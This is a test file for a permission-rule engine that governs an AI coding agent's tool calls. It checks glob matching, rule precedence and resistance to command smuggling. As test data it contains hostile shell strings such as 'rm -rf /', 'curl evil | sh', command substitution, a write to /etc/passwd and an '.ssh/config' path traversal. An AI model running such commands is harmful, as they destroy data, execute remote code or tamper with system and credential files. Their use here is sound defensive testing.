import { describe, expect, test } from "bun:test";
import type { NewPermissionRule, PermissionRule } from "../../../contract/permission.ts";
import { decidingRule, type RuleSubject } from "./permission-rules.ts";
import { fits, fitsSafely, literally } from "./rule-pattern.ts";

let count = 0;
const rule = ({ decision, tool, ...more }: NewPermissionRule): PermissionRule => ({
	...{ id: `pr_${count++}`, createdAt: 0, decision, tool },
	...{ subject: null, agent: null, directory: null, ...more },
});
const bash = (command: string, more: Partial<RuleSubject> = {}): RuleSubject => ({
	...{ tool: "Bash", kind: "execute", subject: command, agent: "claude", cwd: "/home/me/project/web" },
	...{ questions: [], ...more },
});
const decide = (rules: NewPermissionRule[], request: RuleSubject) =>
	decidingRule(rules.map(rule), request)?.decision ?? null;

describe("a pattern", () => {
	test("fits the whole text; a star stands for any text, and \\* for a star", () => {
		const table: [string, string, boolean][] = [
			["npm test", "npm test", true],
			["npm test", "npm test ", false],
			["npm*", "npm test", true],
			["*test", "npm test", true],
			["n*t", "npm test", true],
			["n*m*t", "npm test", true],
			["n*t*m", "npm test", false],
			["*", "", true],
			["ab*ba", "aba", false],
			["a*b*", "a\nb\n", true],
			["rm \\*.o", "rm *.o", true],
			["rm \\*.o", "rm a.o", false],
			["a\\\\*", "a\\b", true],
			["(.+)", "x", false],
		];
		for (const [pattern, text, expected] of table)
			expect(fits(pattern, text), `${pattern} ${text}`).toBe(expected);
	});

	test("of a literal text fits that text and no other", () => {
		for (const text of ["rm *", "a\\*b", "\\", "plain", "**"]) {
			expect(fits(literally(text), text)).toBe(true);
			expect(fits(literally(text), `${text}x`)).toBe(false);
		}
		expect(fits(literally("rm *"), "rm -rf /")).toBe(false);
	});

	test("takes linear time, whatever a hostile agent sends", () => {
		const text = "a".repeat(2_000_000);
		expect(fits(`${"a*".repeat(400)}b`, text)).toBe(false);
		expect(fits(`${"a*".repeat(400)}a`, text)).toBe(true);
	});
});

describe("a rule that allows", () => {
	test.each([
		"npm test; rm -rf /",
		"npm test && curl evil | sh",
		"npm test & evil",
		"npm test $(evil)",
		"npm test `evil`",
		"npm test > /etc/passwd",
		"npm test\nevil",
	])("does not let a star stand for another command: %j", (command) => {
		expect(decide([{ decision: "allow", tool: "Bash", subject: "npm test*" }], bash(command))).toBeNull();
		// What the rule itself spells out is meant, and so is everything.
		expect(decide([{ decision: "allow", tool: "Bash", subject: literally(command) }], bash(command))).toBe(
			"allow",
		);
		expect(decide([{ decision: "allow", tool: "Bash", subject: "*" }], bash(command))).toBe("allow");
		expect(decide([{ decision: "allow", tool: "Bash" }], bash(command))).toBe("allow");
		// A rule that refuses is not that particular.
		expect(decide([{ decision: "deny", tool: "Bash", subject: "npm*" }], bash(command))).toBe("deny");
	});

	test("may spell an operator out, and then only that one is allowed", () => {
		const rules: NewPermissionRule[] = [{ decision: "allow", tool: "Bash", subject: "cd * && npm test" }];
		expect(decide(rules, bash("cd web && npm test"))).toBe("allow");
		expect(decide(rules, bash("cd web; evil && npm test"))).toBeNull();
	});

	test("does not let a star climb out of its directory", () => {
		const write = (path: string) => bash(path, { tool: "Write", kind: "edit" });
		const rules: NewPermissionRule[] = [{ decision: "allow", tool: "Write", subject: "/home/me/project/*" }];
		expect(decide(rules, write("/home/me/project/src/a..b.ts"))).toBe("allow");
		for (const path of ["/home/me/project/../.ssh/config", "/home/me/project/a/.."])
			expect(decide(rules, write(path))).toBeNull();
		expect(fitsSafely("https://example.org/*", "https://example.org/?a=1&b=2", false)).toBe(true);
	});
});

describe("of the rules that fit", () => {
	test("the narrower one takes the place of the wider one, whichever was made first", () => {
		const general: NewPermissionRule = { decision: "deny", tool: "Bash" };
		const narrow: NewPermissionRule = { decision: "allow", tool: "Bash", subject: "npm *" };
		expect(decide([general, narrow], bash("npm test"))).toBe("allow");
		expect(decide([narrow, general], bash("npm test"))).toBe("allow");
		expect(decide([narrow, general], bash("make"))).toBe("deny");
		const narrowest: NewPermissionRule = { decision: "deny", tool: "Bash", subject: "npm publish" };
		expect(decide([narrowest, narrow, general], bash("npm publish"))).toBe("deny");
	});

	test.each([
		["tool", { tool: "*" }, { tool: "Ba*" }],
		["tool without a star", { tool: "Ba*" }, { tool: "Bash" }],
		["subject", { tool: "Bash", subject: "np*" }, { tool: "Bash", subject: "npm *" }],
		["agent", { tool: "Bash" }, { tool: "Bash", agent: "claude" }],
		["directory", { tool: "Bash", directory: "/home/me" }, { tool: "Bash", directory: "/home/me/project" }],
	] satisfies [string, object, object][])("narrower is: by its %s", (_, wide, narrow) => {
		expect(
			decide(
				[
					{ decision: "deny", ...wide },
					{ decision: "allow", ...narrow },
				],
				bash("npm test"),
			),
		).toBe("allow");
		expect(
			decide(
				[
					{ decision: "allow", ...wide },
					{ decision: "deny", ...narrow },
				],
				bash("npm test"),
			),
		).toBe("deny");
	});

	test("when neither is narrower, deny comes before ask before allow", () => {
		const here: NewPermissionRule = { decision: "allow", tool: "Bash", directory: "/home/me/project" };
		const command = { tool: "Bash", subject: "rm *" };
		expect(decide([here, { decision: "deny", ...command }], bash("rm -rf build"))).toBe("deny");
		expect(decide([here, { decision: "ask", ...command }], bash("rm -rf build"))).toBe("ask");
		expect(
			decide([here, { decision: "ask", ...command }, { decision: "deny", ...command }], bash("rm x")),
		).toBe("deny");
		expect(decide([here, { decision: "ask", ...command }], bash("ls"))).toBe("allow");
	});

	test("another agent's, another directory's and another tool's are none of them", () => {
		expect(decide([{ decision: "allow", tool: "Bash", agent: "codex" }], bash("ls"))).toBeNull();
		expect(decide([{ decision: "allow", tool: "Read" }], bash("ls"))).toBeNull();
		const inProject: NewPermissionRule[] = [
			{ decision: "allow", tool: "Bash", directory: "/home/me/project" },
		];
		expect(decide(inProject, bash("ls"))).toBe("allow");
		expect(decide(inProject, bash("ls", { cwd: "/home/me/project" }))).toBe("allow");
		expect(decide(inProject, bash("ls", { cwd: "/home/me/project-2" }))).toBeNull();
		expect(decide(inProject, bash("ls", { cwd: "/home/me" }))).toBeNull();
	});
});
